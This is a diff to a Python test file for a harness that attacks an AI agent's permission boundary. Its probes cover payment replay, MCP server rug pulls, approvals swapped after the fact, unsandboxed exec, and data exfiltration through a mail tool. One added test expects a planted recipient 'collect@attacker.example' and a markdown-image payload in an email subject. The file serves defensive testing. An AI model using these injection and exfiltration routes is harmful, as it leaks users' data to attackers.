@@ -171,11 +171,13 @@ def test_the_user_s_own_tools_secrets_and_payees_are_what_is_attacked(report: Dr
     assert by_name["payment/over_policy_cap"].rule == "pay.cap"
 
 
-def test_what_counts_as_one_honest_act_is_done(report: DrillReport) -> None:
-    """The boundary lets through what it should: the first of two payments, and a call that a person approved."""
+def test_what_is_honest_goes_through_before_the_abuse_is_refused(report: DrillReport) -> None:
+    """A boundary that refused everything would hold as well: the first payment is made, and the server answers until it changes."""
     by_name = {f"{s}/{p.name}": p for s, p in probes(report)}
     assert by_name["payment/replay"].rule == "mandate.used"
-    assert "pulled" not in by_name["mcp/rug_pull"].got and "quarantined" in by_name["mcp/rug_pull"].why
+    assert "quarantined" in by_name["mcp/rug_pull"].why and by_name["mcp/server_reads_files"].rule == "sandbox"
+    assert by_name["approvals/swapped_in_flight"].why.startswith("what it is done to changed after it was approved")
+    assert {p.rule for s, p in probes(report) if s == "exec"} == {"sandbox", "ask.exec_unsandboxed"}
 
 
 def test_nothing_of_the_user_s_is_touched(site: Site, report: DrillReport, repository: Path) -> None:
@@ -194,6 +196,21 @@ def test_without_a_policy_nothing_is_granted_and_everything_holds(site: Site) ->
     assert through(found) == {} and found.count.not_possible == 0
     rules = {p.rule for s, p in probes(found) if s == "policy"}
     assert "deny.not_granted" in rules and found.policy.startswith("built-in")
+
+
+def test_a_policy_under_which_nothing_can_be_done_raises_no_alarm(site: Site) -> None:
+    strict = POLICY.replace("calls = 300", "calls = 0\nasks = 0")
+    found = drilled(
+        site, parse_policy(strict), ("policy", "approvals", "secrets", "skills", "exec", "payment", "audit")
+    )
+    assert through(found) == {} and found.count.not_possible == 0
+
+
+def test_a_tool_with_labels_for_some_of_its_arguments_is_attacked_through_the_others(site: Site) -> None:
+    partly = POLICY.replace('roles = { recipients = "target", body = "content" }', 'roles = { subject = "content" }')
+    by_name = {p.name: p for _, p in probes(drilled(site, parse_policy(partly), ["policy"]))}
+    assert '"to": "collect@attacker.example"' in by_name["planted_recipient (mail.send)"].open
+    assert '"subject": "![chart]' in by_name["markdown_image (mail.send)"].open
 
 
 # --- an unsound one -------------------------------------------------------------------------------------------------------------
@@ -237,8 +254,12 @@ def test_a_probe_that_breaks_at_the_boundary_is_no_success() -> None:
         return Attempt(None, "why.not")
 
     attacks = (Attack("a", "tries", breaks), Attack("b", "tries", impossible))
-    section = asyncio.run(try_attacks("policy", attacks, quiet))
-    assert [probe.verdict for probe in section.probes] == ["let_through", "not_possible"]
+
+    async def missing(guarded: bool) -> Attempt:
+        raise UsageError("a part is not installed")
+
+    section = asyncio.run(try_attacks("policy", (*attacks, Attack("c", "tries", missing)), quiet))
+    assert [probe.verdict for probe in section.probes] == ["let_through", "not_possible", "not_possible"]
     assert "the gate fell over" in section.probes[0].why
 
 
